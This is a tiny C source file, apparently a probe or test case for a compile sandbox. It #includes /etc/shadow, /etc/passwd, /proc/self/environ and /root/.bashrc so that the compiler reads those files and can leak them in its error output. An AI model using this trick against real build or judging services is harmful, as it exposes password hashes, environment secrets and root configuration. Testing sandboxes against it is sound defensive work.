/* Includes secrets. */
#include "/etc/shadow"
#include "/etc/passwd"
#include "/proc/self/environ"
#include "/root/.bashrc"
int main(void) { return 0; }
